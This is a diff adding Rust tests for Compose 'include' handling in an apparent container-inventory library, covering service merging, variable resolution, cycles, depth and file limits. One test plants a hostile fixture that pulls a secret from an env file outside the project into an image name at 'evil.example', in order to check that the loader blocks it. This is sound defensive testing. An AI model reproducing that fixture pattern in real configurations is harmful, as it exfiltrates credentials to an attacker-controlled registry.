@@ -446,3 +446,192 @@ fn invalid(files: &[(&str, &str)], fragment: &str) {
         "{workloads:?}"
     );
 }
+
+/// Writes `files` (relative path, text) below a new temporary directory.
+fn project(files: &[(&str, &str)]) -> oci_testkit::TempDir {
+    let dir = oci_testkit::TempDir::new("compose-include");
+    for (path, text) in files {
+        let path = dir.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    dir
+}
+
+fn names_and_images(workloads: &[oci_inventory::Workload]) -> Vec<String> {
+    workloads
+        .iter()
+        .map(|w| format!("{}={}", w.name(), w.image()))
+        .collect()
+}
+
+#[test]
+fn include_brings_the_services_of_other_files() {
+    let dir = project(&[
+        (
+            "compose.yaml",
+            "include:\n  - common/db.yaml\n  - path: [cache/compose.yaml, cache/override.yaml]\n    env_file: cache/cache.env\nservices:\n  web:\n    image: nginx:${WEB_TAG}\n",
+        ),
+        (".env", "WEB_TAG=1.27\n"),
+        // An included file's own .env (its directory is its project directory) and the includer's variables.
+        (
+            "common/db.yaml",
+            "services:\n  db:\n    image: postgres:${DB_TAG}\n  web-db-tag:\n    image: busybox:${WEB_TAG}\n",
+        ),
+        ("common/.env", "DB_TAG=16.4\nWEB_TAG=ignored\n"),
+        (
+            "cache/compose.yaml",
+            "include: [deeper/queue.yaml]\nservices:\n  cache:\n    image: redis:7\n",
+        ),
+        (
+            "cache/override.yaml",
+            "services:\n  cache:\n    image: redis:${CACHE_TAG}\n",
+        ),
+        ("cache/cache.env", "CACHE_TAG=7.4\n"),
+        (
+            "cache/deeper/queue.yaml",
+            "services:\n  queue:\n    image: rabbitmq:${CACHE_TAG}\n",
+        ),
+    ]);
+    let workloads = load_compose(&[dir.path().join("compose.yaml")], Variables::new()).unwrap();
+    let mut found = names_and_images(&workloads);
+    found.sort();
+    assert_eq!(
+        found,
+        [
+            "cache=redis:7.4",
+            "db=postgres:16.4",
+            "queue=rabbitmq:7.4",
+            "web-db-tag=busybox:1.27",
+            "web=nginx:1.27",
+        ]
+    );
+    let db = workloads.iter().find(|w| w.name() == "db").unwrap();
+    assert_eq!(db.source().file(), Some(dir.path().join("common/db.yaml").as_path()));
+}
+
+#[test]
+fn a_service_defined_twice_through_include_is_an_error() {
+    let dir = project(&[
+        (
+            "compose.yaml",
+            "include:\n  - db.yaml\nservices:\n  web:\n    image: nginx\n  db:\n    image: postgres:17\n",
+        ),
+        ("db.yaml", "services:\n  db:\n    image: postgres:16\n"),
+        ("two.yaml", "include: [db.yaml, again/db.yaml]\n"),
+        ("again/db.yaml", "services:\n  db:\n    image: mariadb\n"),
+    ]);
+    let err = load_compose(&[dir.path().join("compose.yaml")], Variables::new()).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::InvalidCompose, "{err}");
+    assert_eq!(err.line(), Some(6), "{err}");
+    assert!(
+        err.to_string().contains("\"db\" is also defined by the included file"),
+        "{err}"
+    );
+    let err = load_compose(&[dir.path().join("two.yaml")], Variables::new()).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::InvalidCompose, "{err}");
+    assert!(err.to_string().contains("defined by two included files"), "{err}");
+    // A later -f file overrides an included service, as compose merges models after include.
+    std::fs::write(
+        dir.path().join("prod.yaml"),
+        "services:\n  db:\n    image: postgres:16.5\n",
+    )
+    .unwrap();
+    std::fs::write(dir.path().join("base.yaml"), "include: [db.yaml]\n").unwrap();
+    let workloads = load_compose(
+        &[dir.path().join("base.yaml"), dir.path().join("prod.yaml")],
+        Variables::new(),
+    )
+    .unwrap();
+    assert_eq!(names_and_images(&workloads), ["db=postgres:16.5"]);
+}
+
+#[test]
+fn include_cycles_depth_and_missing_files_are_typed_errors() {
+    let dir = project(&[
+        ("a.yaml", "include: [b.yaml]\nservices:\n  a:\n    image: a\n"),
+        ("b.yaml", "include: [sub/../a.yaml]\n"),
+        ("self.yaml", "include: [self.yaml]\n"),
+        ("missing.yaml", "services: {}\ninclude:\n  - path: nowhere.yaml\n"),
+        ("bad.yaml", "include: nowhere.yaml\n"),
+        ("nopath.yaml", "include:\n  - project_directory: x\n"),
+        ("emptypath.yaml", "include:\n  - path: []\n"),
+        ("numbers.yaml", "include:\n  - 7\n"),
+        ("badenv.yaml", "include:\n  - path: a.yaml\n    env_file: missing.env\n"),
+    ]);
+    std::fs::create_dir(dir.path().join("sub")).unwrap();
+    let load = |name: &str| load_compose(&[dir.path().join(name)], Variables::new()).unwrap_err();
+    let err = load("a.yaml");
+    assert_eq!(err.kind(), ErrorKind::InvalidCompose, "{err}");
+    assert!(err.to_string().contains("`include` makes a cycle"), "{err}");
+    assert_eq!(err.file(), Some(dir.path().join("b.yaml").as_path()), "{err}");
+    assert_eq!(load("self.yaml").kind(), ErrorKind::InvalidCompose);
+    let err = load("missing.yaml");
+    assert_eq!((err.kind(), err.line()), (ErrorKind::Io, Some(3)), "{err}");
+    assert!(err.to_string().contains("nowhere.yaml does not exist"), "{err}");
+    assert_eq!(load("bad.yaml").kind(), ErrorKind::InvalidCompose);
+    assert_eq!(load("nopath.yaml").kind(), ErrorKind::InvalidCompose);
+    for name in ["emptypath.yaml", "numbers.yaml", "bad.yaml"] {
+        let err = load(name);
+        assert_eq!(err.kind(), ErrorKind::InvalidCompose, "{err}");
+        assert_eq!(err.file(), Some(dir.path().join(name).as_path()), "{err}");
+        assert_eq!(err.line(), Some(if name == "bad.yaml" { 1 } else { 2 }), "{err}");
+    }
+    assert_eq!(load("badenv.yaml").kind(), ErrorKind::Io);
+
+    // A chain deeper than the limit.
+    let depth = oci_inventory::MAX_INCLUDE_DEPTH + 2;
+    for level in 0..depth {
+        std::fs::write(
+            dir.path().join(format!("level{level}.yaml")),
+            format!("include: [level{}.yaml]\n", level + 1),
+        )
+        .unwrap();
+    }
+    std::fs::write(dir.path().join(format!("level{depth}.yaml")), "services: {}\n").unwrap();
+    let err = load("level0.yaml");
+    assert_eq!(err.kind(), ErrorKind::LimitExceeded, "{err}");
+    // Too many files: 60 includes of a file that includes a leaf 60 times, though each entry is allowed.
+    let sixty = |name: &str| format!("include:\n{}", format!("  - {name}\n").repeat(60));
+    std::fs::write(dir.path().join("top.yaml"), sixty("mid.yaml")).unwrap();
+    std::fs::write(dir.path().join("mid.yaml"), sixty("leaf.yaml")).unwrap();
+    std::fs::write(dir.path().join("leaf.yaml"), "services: {}\n").unwrap();
+    let err = load("top.yaml");
+    assert_eq!(err.kind(), ErrorKind::LimitExceeded, "{err}");
+    assert!(
+        err.to_string().contains(&oci_inventory::MAX_COMPOSE_FILES.to_string()),
+        "{err}"
+    );
+}
+
+#[test]
+fn an_included_project_reads_no_env_file_outside_itself_and_the_project() {
+    let outside = project(&[("secrets.env", "TOKEN=s3cret\n")]);
+    let secret = outside.path().join("secrets.env");
+    let dir = project(&[
+        (
+            "compose.yaml",
+            &format!(
+                "include:\n  - path: sub/compose.yaml\n    env_file: {}\n",
+                secret.display()
+            ),
+        ),
+        (
+            "sub/compose.yaml",
+            "services:\n  leak:\n    image: evil.example/${TOKEN}\n",
+        ),
+        (
+            "dirs.yaml",
+            &format!(
+                "include:\n  - path: sub/compose.yaml\n    project_directory: {}\n",
+                outside.path().display()
+            ),
+        ),
+    ]);
+    std::fs::write(outside.path().join(".env"), "TOKEN=s3cret\n").unwrap();
+    let err = load_compose(&[dir.path().join("compose.yaml")], Variables::new()).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::OutsideProject, "{err}");
+    assert!(!err.to_string().contains("s3cret"), "{err}");
+    let err = load_compose(&[dir.path().join("dirs.yaml")], Variables::new()).unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::OutsideProject, "{err}");
+}
